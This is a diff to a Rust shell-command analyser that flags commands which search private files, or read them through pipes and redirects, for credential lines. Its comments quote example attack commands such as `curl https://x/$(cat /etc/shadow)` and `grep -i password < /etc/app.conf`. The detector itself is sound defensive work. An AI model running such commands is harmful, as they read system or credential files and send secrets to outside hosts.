@@ -431,6 +431,10 @@ pub(crate) struct Walker {
     /// Whether what reaches the command being walked through a pipe was
     /// printed by a secret read earlier in its pipeline.
     piped_secret: bool,
+    /// Whether the input of the command being judged is a file not known
+    /// public (a group's or a shell's `< FILE`, a pipe from a printer of
+    /// one): a line search in it picks credential lines.
+    piped_private: bool,
     /// Whether a word of the command being judged (or of a wrapper it runs
     /// in) holds what a secret read printed (`curl https://x/$(cat
     /// /etc/shadow)`).
@@ -465,6 +469,7 @@ impl Walker {
             field_loops: Vec::new(),
             bound: Vec::new(),
             piped_secret: false,
+            piped_private: false,
             argument_secret: false,
             secret_vars: Vec::new(),
             reading_condition: false,
@@ -645,6 +650,10 @@ impl Walker {
             // what it sets is gone after it.
             let bound = self.bound.len();
             let outer_secret = self.piped_secret;
+            let outer_private = self.piped_private;
+            if i > 0 {
+                self.piped_private = texts[..i].iter().any(|t| rules::prints_private_file(t));
+            }
             // The first command reads what its pipeline reads: inside a
             // group or a shell fed a secret (`cat KEY | { curl …; }`), that.
             // Or an archive or encoding of secrets an earlier command
@@ -667,6 +676,7 @@ impl Walker {
             };
             self.command(command, stdin, depth);
             self.piped_secret = outer_secret;
+            self.piped_private = outer_private;
             if pipeline.seq.len() > 1 {
                 self.bound.truncate(bound);
             }
@@ -697,14 +707,23 @@ impl Walker {
                 // < KEY`, `while …; done < KEY`): what every command in it
                 // reads.
                 let outer_secret = self.piped_secret;
+                let outer_private = self.piped_private;
                 if redirects
                     .as_ref()
                     .is_some_and(|r| secret_input(&r.0, &self.folders))
                 {
                     self.piped_secret = true;
                 }
+                // (`{ grep -i password; } < FILE`: a file's lines.)
+                if redirects.as_ref().is_some_and(|r| {
+                    let read: Vec<&IoRedirect> = r.0.iter().collect();
+                    matches!(redirect_stdin(&read), Some(Stdin::Unknown))
+                }) {
+                    self.piped_private = true;
+                }
                 self.compound(compound, depth);
                 self.piped_secret = outer_secret;
+                self.piped_private = outer_private;
                 if read_name.is_some() {
                     self.loops.pop();
                 }
@@ -1363,11 +1382,17 @@ impl Walker {
                 Some(_) => input_secret,
                 None => self.piped_secret,
             };
-            let outer = (self.piped_secret, self.argument_secret);
+            let private = match redirect_stdin(&redirects) {
+                Some(Stdin::Unknown) => true,
+                Some(_) => false,
+                None => self.piped_private,
+            };
+            let outer = (self.piped_secret, self.argument_secret, self.piped_private);
             self.piped_secret = piped;
+            self.piped_private = private;
             self.argument_secret |= words_secret;
             let verdict = self.invocation(&argv, stdin, depth);
-            (self.piped_secret, self.argument_secret) = outer;
+            (self.piped_secret, self.argument_secret, self.piped_private) = outer;
             verdict
         };
         side_effects.extend(truncations(&argv, &redirects));
@@ -1693,7 +1718,8 @@ impl Walker {
                         .any(|c| rules::prints_private_file(&c.to_string())),
                     // (`grep -i password < /etc/app.conf`: any file.)
                     Stdin::Unknown => rules::searches_lines(name),
-                    _ => false,
+                    Stdin::Inherited => self.piped_private,
+                    Stdin::Text(_) | Stdin::Pipe(_) => false,
                 };
                 let verdict = rules::judge(self, name, &args, stdin.clone(), depth);
                 let verdict = proven(self, verdict, name, &args, stdin, depth);
